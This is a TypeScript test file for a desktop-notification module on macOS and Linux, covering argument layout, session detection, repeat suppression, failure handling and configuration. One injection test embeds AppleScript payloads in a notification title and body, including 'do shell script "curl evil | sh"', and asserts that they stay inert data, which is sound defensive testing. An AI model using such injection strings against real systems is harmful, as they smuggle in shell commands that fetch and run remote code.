import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import fc from 'fast-check';
import pino from 'pino';
import {
  chooseBackend,
  DesktopNotifier,
  type DesktopNotifierOptions,
  desktopCommand,
  OSASCRIPT_LINES,
  plainText,
} from '../../../src/main/core/actions/desktop-notifier.js';
import { NotificationsConfigSchema } from '../../../src/main/core/actions/notifications-config.js';
import { HeadlessNotifier, type Notification } from '../../../src/main/core/actions/notifier.js';
import { ConfigSchema } from '../../../src/main/core/config/config-schema.js';
import { tempDir } from '../../support/temp-dir.js';

const dir = tempDir();
after(dir.cleanup);
let seq = 0;

/**
 * A directory with fake programs that record their argv (NUL-separated) and DBUS_SESSION_BUS_ADDRESS, then
 * exit with `code` after `stderr`. Returns the directory and a reader for each program's calls.
 */
function fakes(names: string[], behaviour: { code?: number; stderr?: string; sleep?: number } = {}) {
  const bin = join(dir.path, `bin-${++seq}`);
  mkdirSync(bin);
  for (const name of names) {
    writeFileSync(
      join(bin, name),
      [
        '#!/bin/sh',
        `for a in "$@"; do printf '%s\\0' "$a"; done >> "${bin}/${name}.argv"`,
        `printf '\\n' >> "${bin}/${name}.argv"`,
        `printf '%s\\n' "$DBUS_SESSION_BUS_ADDRESS" >> "${bin}/${name}.bus"`,
        behaviour.sleep ? `exec /bin/sleep ${behaviour.sleep}` : '',
        behaviour.stderr ? `echo '${behaviour.stderr}' >&2` : '',
        `exit ${behaviour.code ?? 0}`,
        '',
      ].join('\n'),
    );
    chmodSync(join(bin, name), 0o755);
  }
  const calls = (name: string): string[][] => {
    const f = join(bin, `${name}.argv`);
    if (!existsSync(f)) return [];
    return readFileSync(f, 'utf8')
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => l.split('\0').slice(0, -1));
  };
  const bus = (name: string): string[] =>
    readFileSync(join(bin, `${name}.bus`), 'utf8')
      .trim()
      .split('\n');
  return { bin, calls, bus };
}

const level = (title: string, body = 'wired 92 % of RAM'): Notification => ({
  title,
  body,
  level: 'high',
  topic: 'level',
});

const options = (bin: string, o: Partial<DesktopNotifierOptions>): DesktopNotifierOptions => ({
  mode: 'auto',
  platform: 'darwin',
  env: { PATH: bin },
  extraDirs: [],
  guiSession: async () => true,
  ...o,
});

describe('desktop notifications: macOS', () => {
  it('osascript gets a constant script and the title and body only as arguments of its run handler', async () => {
    const f = fakes(['osascript']);
    const n = new DesktopNotifier(options(f.bin, {}));
    const r = await n.notify(level('EXO risk HIGH'));
    assert.deepEqual(r, { ok: true, detail: 'desktop banner via osascript', shown: true });
    assert.deepEqual(f.calls('osascript'), [
      [
        '-e',
        'on run argv',
        '-e',
        'display notification (item 3 of argv) with title (item 2 of argv)',
        '-e',
        'end run',
        'exo-sentinel',
        'EXO risk HIGH',
        'wired 92 % of RAM',
      ],
    ]);
  });

  it('an AppleScript injection in the title or body stays inert text (never part of the script)', async () => {
    const f = fakes(['osascript']);
    const n = new DesktopNotifier(options(f.bin, {}));
    const title = 'x" & (do shell script "touch /tmp/pwned") & "';
    const body = '" & do shell script "curl evil | sh" & "\nend run\non run argv';
    await n.notify(level(title, body));
    const [argv] = f.calls('osascript');
    assert.deepEqual(argv!.slice(0, 7), [...OSASCRIPT_LINES.flatMap((l) => ['-e', l]), 'exo-sentinel']);
    assert.equal(argv![7], title);
    // The newline became a space: one line of text, still only data.
    assert.equal(argv![8], '" & do shell script "curl evil | sh" & " end run on run argv');
    assert.equal(argv!.length, 9);
    assert.ok(!existsSync('/tmp/pwned'));
  });

  it('a title that looks like an option stays an argument (after the fixed first word)', async () => {
    const f = fakes(['osascript']);
    await new DesktopNotifier(options(f.bin, {})).notify(level('-e', '-l JavaScript'));
    const [argv] = f.calls('osascript');
    assert.deepEqual(argv!.slice(6), ['exo-sentinel', '-e', '-l JavaScript']);
  });

  it('terminal-notifier is preferred when installed (found in the extra Homebrew directories too)', async () => {
    const tn = fakes(['terminal-notifier']);
    const osa = fakes(['osascript']);
    const n = new DesktopNotifier(options(osa.bin, { extraDirs: [tn.bin] }));
    const r = await n.notify(level('-title', '-execute rm'));
    assert.equal(r.detail, 'desktop banner via terminal-notifier');
    assert.deepEqual(tn.calls('terminal-notifier'), [
      ['-title', ' -title', '-message', ' -execute rm', '-group', 'exo-sentinel.level'],
    ]);
    assert.deepEqual(osa.calls('osascript'), []);
  });

  it('auto: no banner outside a desktop session, and that is not a failure; on: it is', async () => {
    const f = fakes(['osascript', 'launchctl']);
    const auto = new DesktopNotifier(options(f.bin, { guiSession: async () => false }));
    assert.deepEqual(await auto.notify(level('EXO risk HIGH')), {
      ok: true,
      detail: 'no desktop banner: not a desktop session (launchctl managername is not Aqua)',
      shown: false,
    });
    // Without an injected check, `launchctl managername` decides (the fake prints nothing: not Aqua).
    const real = new DesktopNotifier({ mode: 'auto', platform: 'darwin', env: { PATH: f.bin } });
    assert.equal((await real.chosen).kind, 'none');
    assert.deepEqual(f.calls('launchctl'), [['managername']]);
    const on = new DesktopNotifier(options(f.bin, { mode: 'on', guiSession: async () => false }));
    assert.equal((await on.notify(level('EXO risk HIGH'))).shown, true);
    const off = new DesktopNotifier(options(f.bin, { mode: 'off' }));
    assert.deepEqual(await off.notify(level('EXO risk HIGH')), {
      ok: true,
      detail: 'no desktop banner: notifications.desktop is off',
      shown: false,
    });
    assert.equal(f.calls('osascript').length, 1);
  });

  it('a desktop session is one where launchctl managername prints Aqua', async () => {
    const bin = join(dir.path, 'aqua');
    mkdirSync(bin);
    writeFileSync(join(bin, 'launchctl'), '#!/bin/sh\necho Aqua\n', { mode: 0o755 });
    writeFileSync(join(bin, 'osascript'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    const b = await chooseBackend({ mode: 'auto', platform: 'darwin', env: { PATH: bin }, extraDirs: [] });
    assert.deepEqual(b, { kind: 'osascript', file: join(bin, 'osascript') });
  });
});

describe('desktop notifications: Linux', () => {
  it('notify-send only with a session bus; the bus socket in XDG_RUNTIME_DIR is passed on', async () => {
    const f = fakes(['notify-send']);
    const none = new DesktopNotifier({ mode: 'auto', platform: 'linux', env: { PATH: f.bin } });
    assert.deepEqual(await none.notify(level('EXO risk HIGH')), {
      ok: true,
      detail: 'no desktop banner: no session bus (neither DBUS_SESSION_BUS_ADDRESS nor $XDG_RUNTIME_DIR/bus)',
      shown: false,
    });
    const on = new DesktopNotifier({ mode: 'on', platform: 'linux', env: { PATH: f.bin } });
    assert.equal((await on.notify(level('EXO risk HIGH'))).ok, false, 'asked for and impossible');
    assert.deepEqual(f.calls('notify-send'), []);

    const runtime = join(dir.path, 'run-user');
    mkdirSync(runtime);
    writeFileSync(join(runtime, 'bus'), '');
    const env = { PATH: f.bin, XDG_RUNTIME_DIR: runtime };
    const n = new DesktopNotifier({ mode: 'auto', platform: 'linux', env });
    const r = await n.notify({ ...level('--help'), level: 'critical', body: '-u low' });
    assert.deepEqual(r, { ok: true, detail: 'desktop banner via notify-send', shown: true });
    assert.deepEqual(f.calls('notify-send'), [
      ['--app-name=exo-sentinel', '--urgency=critical', '--', '--help', '-u low'],
    ]);
    assert.deepEqual(f.bus('notify-send'), [`unix:path=${runtime}/bus`]);
  });

  it('without notify-send installed there is no banner (and the reason says what to install)', async () => {
    const b = await chooseBackend({
      mode: 'auto',
      platform: 'linux',
      env: { PATH: join(dir.path, 'empty'), DBUS_SESSION_BUS_ADDRESS: 'unix:path=/nowhere' },
    });
    assert.deepEqual(b, { kind: 'none', why: 'notify-send not found (install libnotify-bin)' });
  });
});

describe('desktop notifications: repeats and failures', () => {
  it('the same level change is not shown again within a minute; another one is', async () => {
    const f = fakes(['osascript']);
    let now = 1_000_000;
    const n = new DesktopNotifier(options(f.bin, { now: () => now }));
    assert.equal((await n.notify(level('EXO risk HIGH'))).shown, true);
    now += 59_000;
    assert.deepEqual(await n.notify(level('EXO risk HIGH')), {
      ok: true,
      detail: 'desktop banner not repeated within a minute',
      shown: false,
    });
    assert.equal((await n.notify({ ...level('EXO risk CRITICAL'), level: 'critical' })).shown, true);
    now += 1_001;
    assert.equal((await n.notify(level('EXO risk HIGH'))).shown, true);
    assert.deepEqual(
      f.calls('osascript').map((a) => a[7]),
      ['EXO risk HIGH', 'EXO risk CRITICAL', 'EXO risk HIGH'],
    );
  });

  it('a failing, hanging or missing program is a result naming it, never an exception', async () => {
    const failing = fakes(['osascript'], { code: 1, stderr: 'execution error: Not authorised (-1743)' });
    assert.deepEqual(await new DesktopNotifier(options(failing.bin, {})).notify(level('a')), {
      ok: false,
      detail: 'desktop banner failed: osascript: execution error: Not authorised (-1743)',
      shown: false,
    });
    const hanging = fakes(['osascript'], { sleep: 5 });
    const t0 = Date.now();
    const r = await new DesktopNotifier(options(hanging.bin, { timeoutMs: 300 })).notify(level('a'));
    assert.deepEqual(r, {
      ok: false,
      detail: 'desktop banner failed: osascript: no answer within 300 ms',
      shown: false,
    });
    assert.ok(Date.now() - t0 < 3000);
    const gone = fakes(['osascript']);
    const n = new DesktopNotifier(options(gone.bin, {}));
    await n.chosen;
    rmSync(join(gone.bin, 'osascript'));
    const missing = await n.notify(level('a'));
    assert.equal(missing.ok, false);
    assert.match(missing.detail, /^desktop banner failed: osascript: .*ENOENT/);
  });

  it('the headless notifier logs, shows the banner and reports a failed banner in its result', async () => {
    const logger = pino({ level: 'silent' });
    const ok = fakes(['osascript']);
    const shown = await new HeadlessNotifier(
      logger,
      null,
      1000,
      new DesktopNotifier(options(ok.bin, {})),
    ).notify(level('EXO risk HIGH'));
    assert.deepEqual(shown, { ok: true, detail: 'logged; desktop banner via osascript' });
    const bad = fakes(['osascript'], { code: 1, stderr: 'no' });
    const failed = await new HeadlessNotifier(
      logger,
      ['/bin/true'],
      1000,
      new DesktopNotifier(options(bad.bin, {})),
    ).notify(level('EXO risk HIGH'));
    assert.deepEqual(failed, {
      ok: false,
      detail: 'logged; desktop banner failed: osascript: no; ran /bin/true',
    });
    const quiet = await new HeadlessNotifier(
      logger,
      null,
      1000,
      new DesktopNotifier({ mode: 'auto', platform: 'linux', env: {} }),
    ).notify(level('EXO risk HIGH'));
    assert.deepEqual(quiet, { ok: true, detail: 'logged' });
  });

  it('a changed mode (live reload) chooses the program again', async () => {
    const f = fakes(['osascript']);
    const n = new DesktopNotifier(options(f.bin, { mode: 'off' }));
    assert.equal((await n.notify(level('a'))).shown, false);
    n.setMode('on');
    assert.equal((await n.notify(level('a'))).shown, true);
  });
});

describe('desktop notifications: text and configuration', () => {
  it('any title and body become one bounded line of text in a fixed argument position', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2000 }), fc.string({ maxLength: 2000 }), (title, body) => {
        const c = desktopCommand(
          { kind: 'osascript', file: '/usr/bin/osascript' },
          { title, body, level: 'high', topic: 'level' },
        );
        assert.equal(c.args.length, 9);
        assert.deepEqual(c.args.slice(0, 7), [...OSASCRIPT_LINES.flatMap((l) => ['-e', l]), 'exo-sentinel']);
        for (const a of c.args.slice(7)) {
          assert.doesNotMatch(a, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
          assert.ok(a.length >= 1 && a.length <= 300);
        }
        const ns = desktopCommand(
          { kind: 'notify-send', file: '/usr/bin/notify-send' },
          { title, body, level: 'ok', topic: 'level' },
        );
        assert.equal(ns.args[2], '--');
        assert.equal(ns.args.length, 5);
      }),
    );
    assert.equal(plainText('a\u202eb\tc\n\nd', 100), 'a b c d');
    assert.equal(plainText('x'.repeat(150), 100), `${'x'.repeat(99)}…`);
  });

  it('notifications.desktop is auto by default, on and off accepted, anything else named', () => {
    assert.deepEqual(ConfigSchema.parse({}).notifications, { desktop: 'auto' });
    assert.equal(NotificationsConfigSchema.parse({ desktop: 'off' }).desktop, 'off');
    const bad = ConfigSchema.safeParse({ notifications: { desktop: 'yes' } });
    assert.equal(bad.success, false);
    assert.deepEqual(bad.error?.issues[0]?.path, ['notifications', 'desktop']);
  });
});
